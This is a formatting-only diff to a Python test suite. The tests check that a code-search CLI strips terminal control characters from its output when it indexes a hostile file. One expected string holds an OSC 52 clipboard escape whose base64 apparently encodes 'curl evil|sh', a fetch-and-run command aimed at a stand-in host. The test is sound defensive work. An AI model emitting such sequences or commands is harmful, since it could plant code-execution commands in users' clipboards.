@@ -30,19 +30,30 @@ def copy_to_clipboard(text):
 
 def run(*args: str, env: dict[str, str] | None = None) -> subprocess.CompletedProcess[bytes]:
     code = "import sys; from codeqa_lsp.cli import main; sys.exit(main(sys.argv[1:]))"
-    return subprocess.run([sys.executable, "-c", code, *args], capture_output=True,
-                          env={**os.environ, **(env or {})}, timeout=600)
+    return subprocess.run(
+        [sys.executable, "-c", code, *args],
+        capture_output=True,
+        env={**os.environ, **(env or {})},
+        timeout=600,
+    )
 
 
 def assert_clean(result: subprocess.CompletedProcess[bytes]) -> None:
     for stream in (result.stdout, result.stderr):
         text = stream.decode("utf-8", "replace")
         assert "\x1b" not in text and "\x07" not in text and "\x9b" not in text, text[:400]
-        assert all(ch in "\n\t" or ord(ch) >= 0x20 for ch in text if ord(ch) < 0x20 or 0x7f <= ord(ch) <= 0x9f)
+        assert all(
+            ch in "\n\t" or ord(ch) >= 0x20
+            for ch in text
+            if ord(ch) < 0x20 or 0x7F <= ord(ch) <= 0x9F
+        )
 
 
 def test_strip_controls_keeps_newlines_tabs_and_text() -> None:
-    assert strip_controls(f"a\tb\n{OSC52}c{CSI}d{C1_CSI}é中") == "a\tb\n]52;c;Y3VybCBldmlsfHNoc[2J[1;1Hd31mé中"
+    assert (
+        strip_controls(f"a\tb\n{OSC52}c{CSI}d{C1_CSI}é中")
+        == "a\tb\n]52;c;Y3VybCBldmlsfHNoc[2J[1;1Hd31mé中"
+    )
 
 
 def test_cli_output_has_no_control_characters(tmp_path: Path, fake_llm: FakeLLMServer) -> None:
@@ -56,14 +67,25 @@ def test_cli_output_has_no_control_characters(tmp_path: Path, fake_llm: FakeLLMS
     indexed = run("index", str(repo), *store)
     assert indexed.returncode == 0, indexed.stderr
     assert_clean(indexed)
-    for args in (("search", "copy to clipboard", *index), ("search", "copy to clipboard", "--json", *index),
-                 ("chunks", str(repo / "clip.py"))):
+    for args in (
+        ("search", "copy to clipboard", *index),
+        ("search", "copy to clipboard", "--json", *index),
+        ("chunks", str(repo / "clip.py")),
+    ):
         result = run(*args)
         assert result.returncode == 0, result.stderr
         assert b"copy_to_clipboard" in result.stdout  # the probe sees the hostile file
         assert_clean(result)
-    asked = run("ask", "how is text copied to the clipboard?", *index, "--base-url", fake_llm.openai_url,
-                "--model", "gpt-test", env={"OPENAI_API_KEY": "sk-test-terminal-0000000000"})
+    asked = run(
+        "ask",
+        "how is text copied to the clipboard?",
+        *index,
+        "--base-url",
+        fake_llm.openai_url,
+        "--model",
+        "gpt-test",
+        env={"OPENAI_API_KEY": "sk-test-terminal-0000000000"},
+    )
     assert asked.returncode == 0, asked.stderr
     assert b"It copies text" in asked.stdout and fake_llm.requests_to("chat")
     assert_clean(asked)
